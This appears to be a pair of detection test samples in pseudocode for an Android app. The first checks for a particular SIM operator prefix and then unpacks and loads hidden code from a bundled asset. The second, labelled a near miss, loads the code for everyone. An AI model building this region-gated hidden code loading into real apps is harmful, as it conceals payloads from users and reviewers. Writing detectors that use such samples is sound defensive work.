permissions("READ_PHONE_STATE")

@launcher
class Main(Activity):
    def onCreate(self, state):
        super().onCreate(state)
        phone = cast(TelephonyManager, self.getSystemService("phone"))
        if phone.getSimOperator().startsWith("440"):
            self.unpack()
    def unpack(self):
        content = array(byte, 4096)
        self.getAssets().open("data.bin").read(content)
        file = File(self.getFilesDir(), "m")
        FileOutputStream(file).write(content)
        DexClassLoader(file.getPath(), None, None, self.getClassLoader()).loadClass("Start")

# near miss: loads its part for everybody, and asks for the operator afterwards
@launcher
class Main(Activity):
    def onCreate(self, state):
        super().onCreate(state)
        self.unpack()
        phone = cast(TelephonyManager, self.getSystemService("phone"))
        if phone.getSimOperator().startsWith("440"):
            self.finish()
    def unpack(self):
        content = array(byte, 4096)
        self.getAssets().open("data.bin").read(content)
        file = File(self.getFilesDir(), "m")
        FileOutputStream(file).write(content)
        DexClassLoader(file.getPath(), None, None, self.getClassLoader()).loadClass("Start")
